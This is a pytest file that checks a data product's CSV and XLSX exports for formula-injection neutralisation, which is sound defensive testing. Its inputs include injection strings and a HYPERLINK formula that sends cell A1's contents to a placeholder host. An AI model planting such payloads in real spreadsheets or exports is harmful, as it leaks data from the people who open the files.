"""Formula neutralisation (OWASP CSV injection) in every CSV and XLSX the product writes.

Text a user or a file controls (an input's file name, a scenario's name, a region's name from the
region file) that a spreadsheet would run as a formula starts with an apostrophe in CSV and is a
text cell in XLSX; numbers stay numbers (a negative number is not turned into text).
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from dashboard.export.maps import export_layer
from dashboard.export.source import MapView
from etl.spreadsheet import is_formula, neutralise, neutralise_frame
from planning.export import write_results
from planning.levers import Growth
from planning.scenario import Scenario, run_scenario
from tests.etl.helpers import MESSY, TINY, write_csv
from tests.planning.helpers import tiny_baseline
from tests.yipanqi.hostile import FORMULA_NAME
from yipanqi.cli import app

REPO = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _rows(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ("=1+1", True), ("+10% inflow", True), ("-5 staff", True), ("@SUM(A1)", True),
        ("\t=1", True), ("\r=1", True), ("  =1", True), ("＝1+1", True), ("－1", True), ("＠x", True),
        ("-12.5", False), ("-1,234.5", False), ("+3", False), ("-1e5", False), ("-5%", False),
        ("2010-01", False), ("浦东", False), ("a=b", False), ("", False),
    ],
)  # fmt: skip
def test_what_could_run_as_a_formula(text, formula):
    assert is_formula(text) is formula
    assert neutralise(text) == ("'" + text if formula else text)


def test_numbers_and_absent_cells_are_left_alone():
    assert neutralise(-3) == -3 and neutralise(-2.5) == -2.5 and neutralise(None) is None
    import pandas as pd

    frame = pd.DataFrame({"name": ["=1+1", "x", None], "persons": [-3, 4, 5], "ratio": [-0.5, None, 1.0]})
    out = neutralise_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1+1", "x"] and pd.isna(out["name"].iloc[2])
    assert out["persons"].tolist() == [-3, 4, 5] and out["persons"].dtype == frame["persons"].dtype
    assert frame["name"].iloc[0] == "=1+1"  # the input is not changed


def test_a_file_named_as_a_formula_is_neutralised_in_the_quarantine_export(tmp_path, monkeypatch):
    monkeypatch.setenv("YIPANQI_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("YIPANQI_STORE_URL", raising=False)
    monkeypatch.chdir(tmp_path)  # the file named relative to here: its label starts with "="
    write_csv(tmp_path / FORMULA_NAME, TINY + MESSY[1:3])
    runner = CliRunner()
    loaded = runner.invoke(app, ["ingest", FORMULA_NAME, "--demo"])
    assert loaded.exit_code == 0, loaded.output
    assert "in 14 = loaded 12 + quarantined 2" in loaded.stdout
    assert runner.invoke(app, ["runs", "--inputs"]).exit_code == 0

    assert runner.invoke(app, ["export", "quarantine", "--out", "q.csv"]).exit_code == 0
    rows = _rows(tmp_path / "q.csv")
    assert [(r["source"], r["row_number"]) for r in rows] == [("'" + FORMULA_NAME, "13"), ("'" + FORMULA_NAME, "14")]
    assert rows[0]["reason"] == "person_id: check digit wrong"


def test_scenario_names_in_the_scenario_results(tmp_path):
    scenario = Scenario(HYPERLINK, levers=(Growth(-50.0, "inflow", ("310104",)),))
    paths = write_results(run_scenario(tiny_baseline(), scenario), tmp_path)
    for name, path in paths.items():
        if path.suffix != ".csv":
            continue
        rows = _rows(path)
        assert rows, name
        for row in rows:
            if "scenario" in row:
                assert row["scenario"] == "'" + HYPERLINK
            for key, value in row.items():
                if key not in ("scenario", "level", "unit_code", "side", "indicator", "period", "suppressed") and not key.endswith("_code") and value:
                    assert _NUMBER.fullmatch(value), (name, key, value)  # a number, not text


def test_names_in_data_tables_are_text_in_csv_and_xlsx(tmp_path):
    """``dashboard.export.tables.write_table``, the writer of every layer and flow table: names (a
    region's from the region file, an area's) and metadata values, in cells and in a matrix's header."""
    import pandas as pd

    from dashboard.export.tables import Table, write_table

    long = pd.DataFrame(
        {"code": ["r1", "r2", "310115"], "name": ["=1+2", "@SUM(A1)", "浦东新区"], "value": [-12, 3.5, 0]}
    )
    matrix = pd.DataFrame({"origin_name": ["=1+2", "浦东新区"], "=1+2": [-1, 2], "浦东新区": [3, None]})
    metadata = pd.DataFrame({"section": ["view"], "key": ["title"], "value": [HYPERLINK]})
    for name, data in (("long", long), ("matrix", matrix)):
        table = Table(data, metadata, name)
        csv_file, meta_file = write_table(table, tmp_path / f"{name}.csv")
        text = csv_file.read_text(encoding="utf-8-sig")
        grid = list(csv.reader(text.splitlines()))
        cells = [c for row in grid for c in row]
        assert "'=1+2" in cells and "=1+2" not in cells
        assert any(c.startswith("-") and _NUMBER.fullmatch(c) for c in cells)  # numbers as they were
        assert _rows(meta_file, "utf-8-sig")[0]["value"] == "'" + HYPERLINK

        (xlsx,) = write_table(table, tmp_path / f"{name}.xlsx")
        book = openpyxl.load_workbook(xlsx)
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        formulas = [c for c in cells if isinstance(c.value, str) and is_formula(c.value)]
        assert {c.value for c in formulas} >= {"=1+2", HYPERLINK}  # the text unchanged ...
        assert all(c.data_type == "s" and c.quotePrefix for c in formulas)  # ... in text cells
        negatives = [c for c in cells if isinstance(c.value, int | float) and c.value < 0]
        assert negatives and all(c.data_type == "n" for c in negatives)


def test_negative_numbers_stay_numbers(store_and_layers, tmp_path):
    """Net flows (inflow - outflow) are negative for provinces of origin: numbers in CSV and XLSX."""
    url, layers = store_and_layers
    view = MapView(measure="net", level="province", lang="zh")
    data, _ = export_layer(layers, url, tmp_path / "net.csv", view)
    values = [r["value"] for r in _rows(data, "utf-8-sig") if r["value"]]
    assert any(v.startswith("-") for v in values) and all(_NUMBER.fullmatch(v) for v in values)
    (xlsx,) = export_layer(layers, url, tmp_path / "net.xlsx", view)
    sheet = openpyxl.load_workbook(xlsx).worksheets[0]
    column = [c.value for c in next(sheet.iter_rows(max_row=1))].index("value")
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value is not None]
    assert any(c.value < 0 for c in cells) and all(c.data_type == "n" for c in cells)


_WRITERS = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|\.to_excel\(|ExcelWriter\(|xlsxwriter|write_csv\(")
_NOT_SPREADSHEETS = {
    "etl/store/writes.py": "the PostgreSQL COPY buffer",
    "synthetic/generate.py": "the generator's record files (ETL inputs)",
    "synthetic/feeds.py": "the generator's feed files (ETL inputs)",
}


def test_every_csv_and_xlsx_writer_neutralises():
    """A guard: a module of the product that writes CSV or XLSX uses ``etl.spreadsheet``."""
    writers = []
    for package in ("access", "analytics", "dashboard", "etl", "geodata", "planning", "synthetic", "yipanqi"):
        for path in sorted((REPO / package).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            if _WRITERS.search(text) and path.name != "spreadsheet.py":
                writers.append(path.relative_to(REPO).as_posix())
    assert len(writers) >= 5, writers
    for name in writers:
        if name not in _NOT_SPREADSHEETS:
            assert "from etl.spreadsheet import" in (REPO / name).read_text(encoding="utf-8"), name
